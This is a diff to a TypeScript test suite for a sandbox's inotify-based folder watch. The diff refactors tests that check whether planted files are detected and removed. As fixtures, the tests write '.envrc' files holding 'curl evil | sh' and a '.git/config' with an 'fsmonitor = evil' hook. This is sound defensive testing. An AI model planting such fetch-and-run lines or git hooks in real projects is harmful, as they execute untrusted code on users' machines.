@@ -18,7 +18,16 @@ import { protectionGaps } from "../../../sandbox/protected/mod.ts";
 import { type FolderEvents, openInotify } from "../../../sandbox/protected/_inotify.ts";
 import { MAX_FOLDER_CHANGES, watchableRoot } from "../../../sandbox/protected/_folder_watch.ts";
 import { tempWorkspace } from "../_fixtures.ts";
-import { call, looksDuring, noWatch, settled, skip, tree, watched } from "./_watch_fixtures.ts";
+import {
+  call,
+  looksDuring,
+  noWatch,
+  settled,
+  skip,
+  tree,
+  watched,
+  watchedTree,
+} from "./_watch_fixtures.ts";
 
 /** The folders `tree` makes that a walk enters: the root, `packages`, and 4 per package. */
 const walked = (packages: number) => 2 + 4 * packages;
@@ -87,46 +96,32 @@ describe("FolderWatch", { skip }, () => {
   });
 
   it("finds a plant made during a call deep in an unchanged tree, in the sweep and at the next launch", async () => {
-    using workspace = tempWorkspace();
-    const deep = tree(workspace.root, 4);
-    await settled();
-    const memory = watched();
-    try {
-      call(workspace, memory).settle();
-      const paths = call(workspace, memory);
-      const planted = [join(deep[2]!, ".git"), join(deep[3]!, ".envrc")];
-      mkdirSync(planted[0]!);
-      writeFileSync(join(planted[0]!, "config"), "[core]\n\tfsmonitor = evil\n");
-      writeFileSync(planted[1]!, "curl evil | sh\n");
-      const sweep = looksDuring(memory, () => paths.settle());
-      assert.deepEqual(sweep.value.map((v) => v.path).sort(), planted.sort());
-      assert.ok(sweep.looks < 5, `the sweep looked at the changed folders only (${sweep.looks})`);
-      for (const path of planted) assert.equal(existsSync(path), false, path);
-      // Planted again, between calls (an unconfined process): the next launch binds it.
-      mkdirSync(planted[0]!);
-      const next = call(workspace, memory);
-      assert.ok(next.plan.readOnly.includes(planted[0]!));
-    } finally {
-      memory.close();
-    }
+    using setup = await watchedTree(4);
+    const { workspace, deep, memory } = setup;
+    const paths = call(workspace, memory);
+    const planted = [join(deep[2]!, ".git"), join(deep[3]!, ".envrc")];
+    mkdirSync(planted[0]!);
+    writeFileSync(join(planted[0]!, "config"), "[core]\n\tfsmonitor = evil\n");
+    writeFileSync(planted[1]!, "curl evil | sh\n");
+    const sweep = looksDuring(memory, () => paths.settle());
+    assert.deepEqual(sweep.value.map((v) => v.path).sort(), planted.sort());
+    assert.ok(sweep.looks < 5, `the sweep looked at the changed folders only (${sweep.looks})`);
+    for (const path of planted) assert.equal(existsSync(path), false, path);
+    // Planted again, between calls (an unconfined process): the next launch binds it.
+    mkdirSync(planted[0]!);
+    const next = call(workspace, memory);
+    assert.ok(next.plan.readOnly.includes(planted[0]!));
   });
 
   it("binds at the next launch what an unconfined process made between calls", async () => {
-    using workspace = tempWorkspace();
-    const deep = tree(workspace.root, 3);
-    await settled();
-    const memory = watched();
-    try {
-      call(workspace, memory).settle();
-      call(workspace, memory).settle();
-      mkdirSync(join(deep[0]!, ".git"));
-      mkdirSync(join(deep[1]!, "c", ".vscode"), { recursive: true });
-      const next = call(workspace, memory);
-      assert.ok(next.plan.readOnly.includes(join(deep[0]!, ".git")));
-      assert.ok(next.plan.readOnly.includes(join(deep[1]!, "c", ".vscode")));
-    } finally {
-      memory.close();
-    }
+    using setup = await watchedTree(3);
+    const { workspace, deep, memory } = setup;
+    call(workspace, memory).settle();
+    mkdirSync(join(deep[0]!, ".git"));
+    mkdirSync(join(deep[1]!, "c", ".vscode"), { recursive: true });
+    const next = call(workspace, memory);
+    assert.ok(next.plan.readOnly.includes(join(deep[0]!, ".git")));
+    assert.ok(next.plan.readOnly.includes(join(deep[1]!, "c", ".vscode")));
   });
 
   it("finds a plant in a folder made during the call, and in one moved in from outside", async () => {
@@ -156,29 +151,22 @@ describe("FolderWatch", { skip }, () => {
   });
 
   it("finds a plant in a watched folder renamed during the call, and in the one made in its place", async () => {
-    using workspace = tempWorkspace();
-    const deep = tree(workspace.root, 2);
-    await settled();
-    const memory = watched();
-    try {
-      call(workspace, memory).settle();
-      const paths = call(workspace, memory);
-      // `a` (watched, with `a/b` below it) goes to `a2`; a new `a` takes its place.
-      const a = join(deep[0]!, "..");
-      renameSync(a, `${a}2`);
-      mkdirSync(join(a, "b"), { recursive: true });
-      const planted = [join(a, "b", ".git"), join(`${a}2`, "b", ".envrc")];
-      mkdirSync(planted[0]!);
-      writeFileSync(planted[1]!, "curl evil | sh\n");
-      assert.deepEqual(paths.settle().map((v) => v.path).sort(), planted.sort());
-      // The next call's plants in either are found too.
-      const next = call(workspace, memory);
-      writeFileSync(join(a, "b", ".envrc"), "curl evil | sh\n");
-      writeFileSync(join(`${a}2`, "b", ".envrc"), "curl evil | sh\n");
-      assert.equal(next.settle().length, 2);
-    } finally {
-      memory.close();
-    }
+    using setup = await watchedTree(2);
+    const { workspace, deep, memory } = setup;
+    const paths = call(workspace, memory);
+    // `a` (watched, with `a/b` below it) goes to `a2`; a new `a` takes its place.
+    const a = join(deep[0]!, "..");
+    renameSync(a, `${a}2`);
+    mkdirSync(join(a, "b"), { recursive: true });
+    const planted = [join(a, "b", ".git"), join(`${a}2`, "b", ".envrc")];
+    mkdirSync(planted[0]!);
+    writeFileSync(planted[1]!, "curl evil | sh\n");
+    assert.deepEqual(paths.settle().map((v) => v.path).sort(), planted.sort());
+    // The next call's plants in either are found too.
+    const next = call(workspace, memory);
+    writeFileSync(join(a, "b", ".envrc"), "curl evil | sh\n");
+    writeFileSync(join(`${a}2`, "b", ".envrc"), "curl evil | sh\n");
+    assert.equal(next.settle().length, 2);
   });
 
   it("looks at every folder after the kernel dropped events, and still finds the plant", async () => {
@@ -210,33 +198,26 @@ describe("FolderWatch", { skip }, () => {
   });
 
   it("looks at every folder after a call made more folders than the watch follows one by one", async () => {
-    using workspace = tempWorkspace();
-    const deep = tree(workspace.root, 3);
-    await settled();
-    const memory = watched();
-    try {
-      call(workspace, memory).settle();
-      const paths = call(workspace, memory);
-      // One folder more than the bound in a watched folder; a plant in the last.
-      for (let index = 0; index <= MAX_FOLDER_CHANGES; index++) {
-        mkdirSync(join(workspace.root, `d${index}`));
-      }
-      const planted = join(workspace.root, `d${MAX_FOLDER_CHANGES}`, ".envrc");
-      writeFileSync(planted, "curl evil | sh\n");
-      writeFileSync(join(deep[2]!, ".envrc"), "curl evil | sh\n");
-      const sweep = looksDuring(memory, () => paths.settle());
-      assert.deepEqual(
-        sweep.value.map((v) => v.path).sort(),
-        [join(deep[2]!, ".envrc"), planted].sort(),
-      );
-      assert.ok(sweep.looks >= walked(3), `the sweep looked at every folder (${sweep.looks})`);
-      assert.match(
-        memory.listings.watchFallback ?? "",
-        new RegExp(`^${MAX_FOLDER_CHANGES + 1} folders were made`),
-      );
-    } finally {
-      memory.close();
+    using setup = await watchedTree(3);
+    const { workspace, deep, memory } = setup;
+    const paths = call(workspace, memory);
+    // One folder more than the bound in a watched folder; a plant in the last.
+    for (let index = 0; index <= MAX_FOLDER_CHANGES; index++) {
+      mkdirSync(join(workspace.root, `d${index}`));
     }
+    const planted = join(workspace.root, `d${MAX_FOLDER_CHANGES}`, ".envrc");
+    writeFileSync(planted, "curl evil | sh\n");
+    writeFileSync(join(deep[2]!, ".envrc"), "curl evil | sh\n");
+    const sweep = looksDuring(memory, () => paths.settle());
+    assert.deepEqual(
+      sweep.value.map((v) => v.path).sort(),
+      [join(deep[2]!, ".envrc"), planted].sort(),
+    );
+    assert.ok(sweep.looks >= walked(3), `the sweep looked at every folder (${sweep.looks})`);
+    assert.match(
+      memory.listings.watchFallback ?? "",
+      new RegExp(`^${MAX_FOLDER_CHANGES + 1} folders were made`),
+    );
   });
 
   it("looks at every folder when no watch can be made, and says why", async () => {
@@ -255,28 +236,21 @@ describe("FolderWatch", { skip }, () => {
   });
 
   it("looks by lstat at the folders past its bound, and says so", async () => {
-    using workspace = tempWorkspace();
-    const deep = tree(workspace.root, 3);
-    await settled();
-    const memory = watched(undefined, 4);
-    try {
-      call(workspace, memory).settle();
-      const paths = call(workspace, memory);
-      const planted = deep.map((folder) => join(folder, ".envrc"));
-      for (const path of planted) writeFileSync(path, "curl evil | sh\n");
-      const sweep = looksDuring(memory, () => paths.settle());
-      assert.deepEqual(sweep.value.map((v) => v.path).sort(), planted.sort());
-      assert.ok(
-        sweep.looks >= walked(3) - 4,
-        `past the bound, folders are looked at (${sweep.looks})`,
-      );
-      assert.match(memory.listings.watchFallback ?? "", /bound \(4 folders\)/);
-      // Said with the walk's other facts, in the call's enforcement gaps.
-      const gap = protectionGaps([".git"], [], paths.watchBound).at(-1);
-      assert.match(gap ?? "", /folder watch met its bound \(4 folders\)/);
-    } finally {
-      memory.close();
-    }
+    using setup = await watchedTree(3, undefined, 4);
+    const { workspace, deep, memory } = setup;
+    const paths = call(workspace, memory);
+    const planted = deep.map((folder) => join(folder, ".envrc"));
+    for (const path of planted) writeFileSync(path, "curl evil | sh\n");
+    const sweep = looksDuring(memory, () => paths.settle());
+    assert.deepEqual(sweep.value.map((v) => v.path).sort(), planted.sort());
+    assert.ok(
+      sweep.looks >= walked(3) - 4,
+      `past the bound, folders are looked at (${sweep.looks})`,
+    );
+    assert.match(memory.listings.watchFallback ?? "", /bound \(4 folders\)/);
+    // Said with the walk's other facts, in the call's enforcement gaps.
+    const gap = protectionGaps([".git"], [], paths.watchBound).at(-1);
+    assert.match(gap ?? "", /folder watch met its bound \(4 folders\)/);
   });
 
   it("closes its inotify instance with the walk memory, and watches nothing after", async () => {
